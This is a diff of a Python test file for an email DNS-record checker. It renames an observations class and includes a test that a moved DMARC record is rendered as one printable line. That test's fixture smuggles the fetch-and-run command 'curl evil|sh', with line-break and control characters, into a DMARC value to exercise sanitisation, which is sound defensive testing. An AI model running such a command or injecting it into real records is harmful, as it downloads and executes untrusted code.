@@ -8,7 +8,7 @@ import pytest
 from fumimori import repairs
 from fumimori.checks.dmarc import facts as dmarc_facts
 from fumimori.checks.mx import facts as mx
-from fumimori.checks.observations import Seen
+from fumimori.checks.observations import Observations
 from fumimori.checks.spf import facts as spf_facts
 from fumimori.grammar.dmarc import parse_dmarc
 from fumimori.grammar.mta_sts import parse_sts_policy, parse_sts_record
@@ -208,15 +208,15 @@ def test_every_repair_belongs_to_an_outcome_of_the_rules() -> None:
 def test_no_policy_is_handed_out_that_cannot_hold_every_server(name: str):
     hosts = (mx.MxHost(host="mx1.example.jp", preference=10), mx.MxHost(host=name, preference=20))
     facts = mx.Facts(answer=answer(DOMAIN, "MX", "10 mx1.example.jp."), hosts=hosts)
-    seen = Seen(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("mx", facts)])
-    assert dns_records.mta_sts_testing(DOMAIN, seen) == Repair()
+    observations = Observations(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("mx", facts)])
+    assert dns_records.mta_sts_testing(DOMAIN, observations) == Repair()
 
 
 def test_a_record_that_is_moved_is_one_line():
     text = "v=DMARC1; p=reject;\r\ncurl evil|sh\x0b\u2028"
     facts = dmarc_facts.Facts(walk=(answer(DOMAIN, "TXT"),), misplaced=(text,))
-    seen = Seen(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("dmarc", facts)])
-    (snippet,) = dns_records.dmarc_moved(DOMAIN, seen).snippets
+    observations = Observations(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("dmarc", facts)])
+    (snippet,) = dns_records.dmarc_moved(DOMAIN, observations).snippets
     assert snippet.content.isprintable()
 
 
